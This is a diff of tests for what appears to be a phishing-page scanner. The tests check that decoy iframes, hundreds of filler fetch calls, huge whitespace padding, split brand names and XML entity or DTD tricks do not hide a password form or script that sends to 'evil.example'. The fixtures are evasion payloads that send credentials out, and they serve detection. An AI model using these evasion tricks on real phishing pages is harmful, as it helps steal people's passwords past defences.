@@ -114,6 +114,105 @@ test('more forms, addresses or scripts than are kept are said to be unread', asy
     expect((await scan({ 'a.html': page })).kinds).toEqual(['a.html unread']);
 });
 
+describe('decoys before the real thing hide it from no scan', () => {
+  const own = (n: number) => `https://bakery.example/${n}`;
+  const many = (count: number, one: (n: number) => string) =>
+    Array.from({ length: count }, (_, n) => one(n)).join('\n');
+  const evil = 'https://evil.example/';
+
+  test.each([
+    ['frames', `${'<iframe srcdoc="<p>x"></iframe>'.repeat(6)}<iframe srcdoc='${form}'></iframe>`, 'password_form'],
+    ['frames in frames', nested(7), 'password_form'],
+    [
+      'more frames than are read',
+      `${'<iframe srcdoc="<p>x"></iframe>'.repeat(60)}<iframe srcdoc='${form}'></iframe>`,
+      'unread',
+    ],
+    ['addresses', `${password}<script>${many(300, (n) => `fetch("${own(n)}")`)};${sends}</script>`, 'password_sent'],
+    [
+      'ports',
+      `${password}<script>${many(300, (n) => `fetch("https://bakery.example:${n + 1}")`)};${sends}</script>`,
+      'unread',
+    ],
+    [
+      'handlers',
+      `<script>${many(120, (n) => `b.onclick = () => { location = "${own(n)}" }`)};location="${evil}"</script>`,
+      'unread',
+    ],
+    [
+      'names',
+      `${password}<script>${many(600, (n) => `a${n}="${own(n)}"`)};z="${evil}";fetch(z)</script>`,
+      'password_sent',
+    ],
+    ['names far away', `${password}<script>z="${evil}";${' '.repeat(600_000)};fetch(z)</script>`, 'password_sent'],
+    ['headings', `${many(200, (n) => `<h2>We bake ${n} kinds</h2>`)}<h1>PayPal</h1>${password}`, 'brand_signin'],
+    ['words of one heading', `<h1>${'bread '.repeat(100)}<b>Pay</b>&#80;al</h1>${password}`, 'brand_signin'],
+    ['more headings than are kept', `${'<h2>bread</h2>'.repeat(60_000)}<h1>PayPal</h1>${password}`, 'unread'],
+    ['an attribute', `<body onload='${' '.repeat(300_000)}location="${evil}"'>`, 'unread'],
+    ['forms that are one', `${'<div><form id=a></div>'.repeat(300)}<form action="${evil}">${password}`, 'unread'],
+  ])('%s', async (_what, page, kind) => {
+    expect((await scan({ 'a.html': page })).kinds).toContain(`a.html ${kind}`);
+  });
+
+  test('in a script by itself', async () => {
+    const script = `password;${many(300, (n) => `fetch("https://bakery.example:${n + 1}")`)};${sends}`;
+    expect((await scan({ 'a.js': script })).kinds).toEqual(['a.js unread']);
+  });
+
+  test('scripts of frames, of which each names some', async () => {
+    const frame = (n: number) =>
+      `<iframe srcdoc='${many(40, (m) => `<script src="${n}-${m}.js"></script>`)}'></iframe>`;
+    const page = `${password}${frame(0)}${frame(1)}<iframe srcdoc='<script src="s.js"></script>'></iframe>`;
+    expect((await scan({ 'a.html': page, 's.js': sends })).kinds).toEqual(['a.html unread']);
+  });
+
+  test('what is large and honest is not held to hide something', async () => {
+    const script = many(400, (n) => `const u${n} = "https://api${n}.example/"; b.onclick = () => { location = u${n} }`);
+    const page = `${many(500, (n) => `<h2>Chapter ${n} of the handbook</h2>`)}${many(20, () => '<iframe srcdoc="<p>x"></iframe>')}`;
+    expect((await scan({ 'a.html': page, 'b.js': script.slice(0, 8_000) })).kinds).toEqual([]);
+  });
+});
+
+describe('XML that browsers make something else of than its text is unread', () => {
+  const entity = `<!ENTITY f "&#60;form action='https://evil.example/'>&#60;input type='password'/>&#60;/form>">`;
+  const page = (before: string, body = '&f;') =>
+    `${before}<html xmlns="http://www.w3.org/1999/xhtml"><body>${body}</body></html>`;
+
+  test.each([
+    ['entities of its own', page(`<!DOCTYPE html [${entity}]>`)],
+    ['behind what looks like an end', page(`<?xml version="1.0"?>\n<!DOCTYPE html SYSTEM ">" [ ${entity} ]>`)],
+    [
+      'attributes that stand by themselves',
+      page(`<!DOCTYPE html [<!ATTLIST form action CDATA "https://evil.example/">]>`, ''),
+    ],
+    ['a stylesheet that makes another document', page('<?xml-stylesheet type="text/xsl" href="a.css"?>', '')],
+    [
+      'names of characters that another file holds',
+      page('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.1//EN" "x">', 'https&colon;'),
+    ],
+    ['two bytes for each letter', Buffer.from(page('<?xml version="1.0"?>', form), 'utf16le')],
+    ['an encoding of its own', page('<?xml version="1.0" encoding="iso-2022-jp"?>', '')],
+    ['what is torn', `${' '.repeat(16_378)}<!ENTITY f "">`],
+  ])('%s', async (_what, text) => {
+    for (const path of ['a.xhtml', 'a.svg', 'a.xml', 'a.rss'])
+      expect((await scan({ [path]: text })).kinds).toContain(`${path} unread`);
+  });
+
+  test('and pictures, feeds and pages as they mostly are, are read', async () => {
+    const plain = `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg><title>a &amp; b &#169;</title></svg>`;
+    const html = `<!DOCTYPE html><pre>&lt;!ENTITY</pre><!ENTITY x "y">&nbsp;`;
+    expect((await scan({ 'a.svg': plain, 'a.xml': plain, 'a.html': html })).kinds).toEqual([]);
+  });
+});
+
+/** A form in as many frames. */
+function nested(depth: number): string {
+  let inner = form;
+  for (let n = 0; n < depth; n++)
+    inner = `<iframe srcdoc="${inner.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}"></iframe>`;
+  return inner;
+}
+
 test('two files whose names begin alike, or look alike when printed, have a flag each', async () => {
   const long = 'x'.repeat(450);
   const paths = [`${long}1.html`, `${long}2.html`, 'a\u202e.html', 'a\u202d.html', `${'y'.repeat(300)}.html`];
